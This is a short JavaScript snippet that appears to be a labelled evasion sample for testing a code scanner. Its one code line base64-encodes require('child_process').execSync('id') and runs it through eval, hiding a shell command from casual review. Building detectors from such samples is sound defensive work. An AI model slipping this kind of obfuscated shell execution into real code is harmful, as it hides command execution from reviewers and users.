// evasion: base64 payload into eval
// grade: medium; does: shell
eval(Buffer.from("cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp", "base64").toString());
